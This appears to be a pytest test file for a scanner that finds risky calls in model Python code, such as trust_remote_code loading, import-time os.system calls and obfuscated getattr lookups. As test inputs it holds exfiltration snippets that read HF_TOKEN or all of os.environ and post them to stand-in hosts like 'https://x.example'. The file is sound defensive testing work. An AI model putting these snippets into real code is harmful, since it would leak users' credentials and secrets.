"""Calls in Python source that need an explanation, one by one."""

from __future__ import annotations

import pytest

from scanner.code.calls import UnreadableSourceError, find_calls
from scanner.findings import Severity
from tests.assets.code_cases import (
    HARMLESS_CODE,
    calls_of_libraries,
    changed_surroundings,
    hidden_code,
    named_by_detours,
    plain_calls_of_libraries,
    plain_detours,
    plain_surroundings,
)

FROM_PRETRAINED = b"from transformers import AutoModel\nAutoModel.from_pretrained"


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        (FROM_PRETRAINED + b"('a/b', trust_remote_code=True)", "foreign"),
        (b"self.factory().load('a/b', trust_remote_code=True)", "foreign"),
        (b"self.factory().load(path, trust_remote_code=True)", "trust"),
        (FROM_PRETRAINED + b"('a/b', trust_remote_code=True, revision='" + b"0a" * 20 + b"')", "trust"),
        (FROM_PRETRAINED + b"('a/b', trust_remote_code=False)", ""),
        (b"def load(trust_remote_code):\n  return make('a/b', trust_remote_code=trust_remote_code)", ""),
    ],
)
def test_trust_is_told_by_whose_code_it_trusts(source: bytes, expected: str) -> None:
    assert [site.kind for site in find_calls(source)] == ([expected] if expected else [])


@pytest.mark.parametrize("source", [*calls_of_libraries(), *named_by_detours(), *changed_surroundings()])
def test_ways_round_a_plain_call_are_found(source: str) -> None:
    assert max(site.severity.rank for site in find_calls(source.encode())) >= Severity.HIGH.rank


@pytest.mark.parametrize("source", [*plain_calls_of_libraries(), *plain_detours(), *plain_surroundings()])
def test_plain_ones_are_no_attack(source: str) -> None:
    assert all(site.severity.rank < Severity.HIGH.rank for site in find_calls(source.encode()))


@pytest.mark.parametrize("source", hidden_code())
def test_hidden_calls_are_found(source: str) -> None:
    assert max(site.severity.rank for site in find_calls(source.encode())) >= Severity.HIGH.rank


def test_harmless_code_has_nothing_to_explain() -> None:
    assert find_calls(HARMLESS_CODE.encode()) == []


@pytest.mark.parametrize(
    ("source", "phase"),
    [
        ("import os\nos.system('x')", "import"),
        ("import os\ndef f(): os.system('x')\nf()", "import"),
        ("import os\ndef f(): os.system('x')\ndef g(): f()\ng()", "import"),
        ("import os\ndef f(): os.system('x')\nimport atexit\natexit.register(f)", "import"),
        ("import os\ndef f(x): os.system('x')\n@f\ndef g(): pass", "import"),
        ("import os\nclass A:\n  def __init__(self): os.system('x')\nA()", "import"),
        ("import os\nclass A:\n  x = os.system('x')", "import"),
        ("import os\nclass A:\n  def __init_subclass__(cls): os.system('x')", "import"),
        ("import os\nclass M(type):\n  def __new__(c, *a): os.system('x')", "import"),
        ("import os\ndef __getattr__(name): os.system('x')", "import"),
        ("import os\ndef f(x=os.system('x')): pass", "import"),
        (
            "import os\nclass A:\n  def __init__(self): self.f()\n  def f(self): os.system('x')",
            "construction",
        ),
        ("import os\nclass A:\n  def forward(self): os.system('x')", "call"),
        ("import os\ndef f(): os.system('x')", "call"),
        ("import os\nif __name__ == '__main__': os.system('x')", "main"),
    ],
)
def test_phase_says_when_a_call_runs(source: str, phase: str) -> None:
    assert [site.phase.value for site in find_calls(source.encode()) if site.kind == "process"] == [phase]


@pytest.mark.parametrize(
    "source",
    [
        "def f(path):\n    from huggingface_hub import hf_hub_download\n    return hf_hub_download(path)",
        "import requests\nclass P:\n    def image(self, url): return requests.get(url)",
        "def save(self, path):\n    with open(path, 'w') as f: f.write('x')",
        "import importlib\ndef f(name): return importlib.import_module(name)",
        "from functools import reduce\ndef f(m, n): return reduce(getattr, n.split('.'), m)",
        "import torch\ndef f(p): return torch.load(p)",
        "'Tokens lie in ~/.cache/huggingface/token, see https://1.2.3.4/.'",
        "def f(self):\n    self.eval()\n    return self.compile('x')",
        "x = 'Größe'\nname = 'Ωmega'  # ｆｕｌｌ width in a comment",
        "import os\nx = os.path.join('a', 'b')\nhasattr(os, 'fork')",
        "def decorate(f): return f\n@decorate\ndef g(): pass",
    ],
)
def test_honest_code_is_no_attack(source: str) -> None:
    assert all(site.severity.rank < Severity.HIGH.rank for site in find_calls(source.encode()))


def test_secrets_and_a_connection_in_one_file_are_told_together() -> None:
    source = b"import os, requests\nk = os.environ['HF_TOKEN']\ndef f(): requests.post('http://x', data=k)"
    found = [site for site in find_calls(source) if site.kind == "exfiltration"]
    assert [site.sentence for site in found] == ["reads secrets in line 2 and can send them away in line 3"]


@pytest.mark.parametrize(
    "call",
    [
        "requests.post('https://x.example', data=dict(os.environ))",
        "requests.post('https://x.example', json={**os.environ})",
        "requests.get('https://x.example', params=os.environ)",
        "requests.post('https://x.example', str(e.copy()))",
        "requests.post('https://x.example', data=held)",
    ],
)
def test_environment_that_is_sent_away_is_told(call: str) -> None:
    source = f"import os, requests\nfrom os import environ as e\nheld = dict(os.environ)\ndef f(): {call}"
    found = [site for site in find_calls(source.encode()) if site.kind == "exfiltration"]
    assert [(site.line, site.severity) for site in found] == [(4, Severity.CRITICAL)]


@pytest.mark.parametrize(
    "call",
    [
        "requests.post(os.environ['HOST'], data=x)",
        "requests.get('https://x.example', headers={'A': os.environ.get('A')})",
        "subprocess.run(['ls'], env=dict(os.environ))",
    ],
)
def test_environment_that_is_asked_for_one_name_is_not_sent(call: str) -> None:
    source = f"import os, requests, subprocess\ndef f(x): {call}"
    assert "exfiltration" not in {site.kind for site in find_calls(source.encode())}


def test_names_that_stand_for_each_other_are_read_in_time() -> None:
    chain = "".join(f"a{n + 1} = a{n} + a{n} + a{n}\n" for n in range(60))
    assert find_calls(f"import os\na0 = ''\n{chain}getattr(os, a60 + 'system')('x')".encode())


@pytest.mark.parametrize(
    "names", [["print"], [f"c.a{number}" for number in range(40)], ["os.getenv", "len"] * 20]
)
def test_other_meanings_of_a_name_hide_none_that_is_grave(names: list[str]) -> None:
    source = f"import os, c\na = {' or '.join(names)} or getattr(os, 'exe' + 'cv')\na('true', [])"
    assert ("os.execv", 3) in {(site.call, site.line) for site in find_calls(source.encode())}


@pytest.mark.parametrize("source", [b"x;" * 200_000, b"a = 1\n" * 100_000])
def test_more_code_than_any_model_needs_is_refused_before_it_is_parsed(source: bytes) -> None:
    with pytest.raises(UnreadableSourceError, match="words and signs"):
        find_calls(source)


def test_functions_that_call_each_other_are_read_in_time() -> None:
    assert find_calls(b"def f(): f()\n" * 5_000) == []


def test_name_that_holds_much_and_is_given_to_many_calls_is_read_in_time() -> None:
    assert find_calls(b"x = 'https://x.example/' + y\n" * 5_000 + b"f(x)\n" * 20_000) == []
